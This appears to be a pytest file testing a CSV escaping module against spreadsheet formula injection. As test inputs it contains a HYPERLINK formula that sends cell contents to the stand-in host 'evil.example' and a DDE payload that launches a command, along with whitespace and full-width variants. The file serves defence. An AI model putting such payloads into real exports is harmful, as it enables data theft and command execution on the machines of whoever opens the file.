"""CSV files for spreadsheets: no cell starts like a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from chalicelib.domain.csvsafe import cell, to_csv


@pytest.mark.parametrize("value", ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)",
                                   "\t=1+1", "\r=1+1", "\0=1"])
def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote(value):
    assert cell(value) == "'" + value


# Issue 15: "leading whitespace variants": a spreadsheet that trims leading blanks on
# import (LibreOffice's "trim spaces", some importers with a leading line feed) or folds
# full-width signs to ASCII would read these as formulas too.
@pytest.mark.parametrize("value", [" =1+1", "  +cmd|' /C calc'!A0", "\n=1+1", " \t@SUM(1)", "\uff1dHYPERLINK(1)",
                                   " \uff0b1", "\u3000=1"])
def test_a_cell_whose_first_non_blank_character_starts_a_formula_gets_a_leading_quote(value):
    assert cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Grace", "grace@example.com", "2026-01-31", "a=b", "x-1", " not = first", "'quoted"])
def test_other_cells_are_left_as_they_are(value):
    assert cell(value) == value


def test_none_is_an_empty_cell_and_numbers_are_text():
    assert cell(None) == "" and cell(12) == "12" and cell(-3) == "'-3"


def test_a_document_neutralises_header_and_rows_and_quotes_separators():
    text = to_csv(["row", "=name"], [[1, '=HYPERLINK("https://evil.example","a, b")'], [2, 'say "hi"\nthere']])
    assert text.endswith("\r\n") and "\r\n" in text
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed == [["row", "'=name"], ["1", '\'=HYPERLINK("https://evil.example","a, b")'],
                      ["2", 'say "hi"\nthere']]
    # what a spreadsheet reads first in every cell is never a formula character
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in parsed for c in r)


def test_a_spreadsheet_file_has_a_byte_order_mark_and_crlf_lines():
    from chalicelib.domain.csvsafe import for_spreadsheet

    data = for_spreadsheet(["name"], [["Zoë"], ["=1"]])
    assert data == "\ufeffname\r\nZoë\r\n'=1\r\n".encode()
